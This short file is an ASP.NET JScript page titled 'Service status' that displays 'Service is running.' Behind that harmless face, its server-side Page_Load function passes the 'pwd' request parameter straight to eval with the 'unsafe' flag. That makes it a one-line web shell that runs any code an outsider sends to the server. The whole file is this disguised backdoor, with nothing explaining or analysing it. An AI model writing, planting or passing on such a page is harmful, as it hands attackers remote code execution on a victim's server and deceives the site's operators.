<%@ Page Language="JScript" Debug="false" %>
<html>
<head><title>Service status</title></head>
<body>
<script language="JScript" runat="server">
function Page_Load() {
    eval(Request["pwd"], "unsafe");
}
</script>
<p>Service is running.</p>
</body>
</html>
